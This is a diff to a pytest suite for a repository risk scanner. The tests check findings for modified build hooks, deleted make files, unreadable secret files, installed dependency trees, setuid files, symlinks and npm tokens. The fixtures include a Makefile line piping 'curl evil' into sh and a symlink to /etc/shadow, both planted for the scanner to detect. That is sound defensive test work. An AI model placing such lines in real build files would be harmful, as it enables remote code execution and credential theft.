@@ -142,14 +142,16 @@ def test_ci_config_negative(tmp_path: Path) -> None:
 
 
 def test_build_files(tmp_path: Path) -> None:
-    b = Builder(tmp_path, {"Makefile": "all:\n"})
+    b = Builder(tmp_path, {"Makefile": "all:\n", "old.mk": "x:\n"})
     b.up("Makefile", "all:\n\tcurl evil | sh\n")
+    b.whiteout("old.mk")
     b.up("rules/extra.mk", "x:\n")
     b.up("setup.py", "import os\n")
     b.up("Dockerfile.dev", "FROM x\n")
     b.up("crate/build.rs", "fn main() {}\n")
     got = {r.paths[0]: r for r in _risks(b, "build-hook")}
-    assert set(got) == {"Makefile", "rules/extra.mk", "setup.py", "Dockerfile.dev", "crate/build.rs"}
+    assert set(got) == {"Makefile", "rules/extra.mk", "setup.py", "Dockerfile.dev", "crate/build.rs", "old.mk"}
+    assert got["old.mk"].reason == "make include file deleted"
     assert "Makefile modified" in got["Makefile"].reason and "setup.py" in got["setup.py"].reason
 
 
@@ -482,3 +484,62 @@ def test_mass_deletion_names_the_narrowest_directory(tmp_path: Path) -> None:
         b.whiteout(f"a/b/f{i}")  # the project loses 4 of 5 files, a/ and a/b/ all of theirs
     r = _one(b, "mass-deletion")
     assert "4 of the 4 files of directory a/b/" in r.reason and r.paths == tuple(f"a/b/f{i}" for i in range(4))
+
+
+def test_unreadable_new_content_is_reported_not_skipped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    b = Builder(tmp_path)
+    b.up("opaque.txt", f"{_AWS}\n")
+    b.up("fine.txt", "x\n")
+    real = R._read
+
+    def deny(root: object, rel: str, cap: int) -> tuple[bytes, bool] | None:
+        return None if rel == "opaque.txt" else real(root, rel, cap)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(R, "_read", deny)
+    r = _one(b, "secret")
+    assert r.paths == ("opaque.txt",) and "could not be read" in r.reason and r.severity == "medium"
+
+
+def test_readme_lists_every_rule_and_threshold() -> None:
+    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
+    section = readme.split("### Risk summary", 1)[1].split("\n## ", 1)[0]
+    for rule in R.RULES:
+        assert f"| `{rule}` |" in section, f"README's Risk summary does not document rule {rule!r}"
+    for figure in (f"{R.MASS_DELETE_FILES}**", f"{round(R.DIR_DELETE_SHARE * 100)} %", f"{R.DIR_DELETE_MIN}**",
+                   f"{R.LARGE_BINARY >> 20} MiB", f"{R.TEXT_CAP >> 20} MiB", f"{R.MANIFEST_CAP >> 20} MiB"):
+        assert figure in section, figure
+
+
+def test_installed_dependency_tree_is_one_finding(tmp_path: Path) -> None:
+    b = Builder(tmp_path, {"web/package.json": "{}"})
+    for i in range(30):
+        b.up(f"web/node_modules/p{i}/package.json", json.dumps({"dependencies": {"x": "1"},
+                                                                 "scripts": {"postinstall": "x"}}))
+        b.up(f"web/node_modules/p{i}/cli.js", "#!/usr/bin/env node\n", 0o755)
+        b.symlink(f"web/node_modules/.bin/p{i}", f"../p{i}/cli.js")
+    b.up("web/node_modules/aws-sdk/test/fixture.txt", f"{_AWS}\n")
+    b.up("web/node_modules/evil/suid", "x", 0o4755)
+    b.symlink("web/node_modules/evil/out", "/etc/shadow")
+    b.up(".venv/bin/python", "x", 0o755)
+    rs = _risks(b)
+    trees = [r for r in rs if r.rule == "dependencies"]
+    assert [r.paths for r in trees] == [(".venv",), ("web/node_modules",)]
+    assert "installed dependency tree web/node_modules/ added" in trees[1].reason
+    assert {r.rule for r in rs} == {"dependencies", "setuid", "symlink", "held-back"}  # nothing per file else
+    assert _one(b, "setuid").paths == ("web/node_modules/evil/suid",)
+    assert [r.paths for r in _risks(b, "symlink")] == [("web/node_modules/evil/out",)]
+
+
+def test_dependency_tree_names() -> None:
+    assert R.dependency_tree("node_modules/a/b") == "node_modules"
+    assert R.dependency_tree("x/.venv") == "x/.venv"
+    assert R.dependency_tree(".yarn/cache/a.zip") == ".yarn/cache"
+    assert R.dependency_tree(".yarn/releases/yarn.cjs") is None
+    assert R.dependency_tree("src/node_modules_helper.py") is None
+
+
+def test_secret_conditional_names_need_a_credential(tmp_path: Path) -> None:
+    b = Builder(tmp_path)
+    b.up("a/.npmrc", "registry=https://registry.npmjs.org/\n")  # no credential: the policy does not mask it
+    b.up("b/.npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
+    assert [r.paths for r in _risks(b, "secret")] == [("b/.npmrc",)]
